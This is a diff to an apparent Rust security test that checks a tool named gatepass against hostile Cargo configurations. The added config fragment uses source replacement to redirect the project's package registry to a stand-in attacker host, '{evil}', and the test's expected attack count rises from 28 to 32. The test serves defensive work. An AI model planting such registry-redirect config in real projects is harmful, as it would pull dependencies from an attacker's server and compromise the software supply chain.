@@ -111,6 +111,8 @@ fn rust() {
         ..PROJECT
     };
     const INDEX: &str = "[registries.gatepass]\nindex = \"sparse+http://{evil}/index/\"\n";
+    const SOURCE: &str = "[source.gatepass]\nregistry = \"sparse+http://{host}/artifactory/api/cargo/cargo/index/\"\n\
+                          replace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+http://{evil}/index/\"\n";
     attack_all(
         &[
             Project { hostile: &[(".cargo/config.toml", INDEX)], ..cargo },
@@ -127,11 +129,11 @@ fn rust() {
             Project { variables: &[("CARGO_REGISTRIES_GATEPASS_INDEX", "sparse+http://{evil}/index/")], ..cargo },
             Project {
                 hostile: &[(".cargo/config.toml", "[source.gatepass]\nregistry = \"sparse+http://{evil}/index/\"\n")],
-                applied_is_told: false,
                 ..cargo
             },
+            Project { hostile: &[(".cargo/config.toml", SOURCE)], ..cargo },
         ],
-        28,
+        32,
     );
 }
 
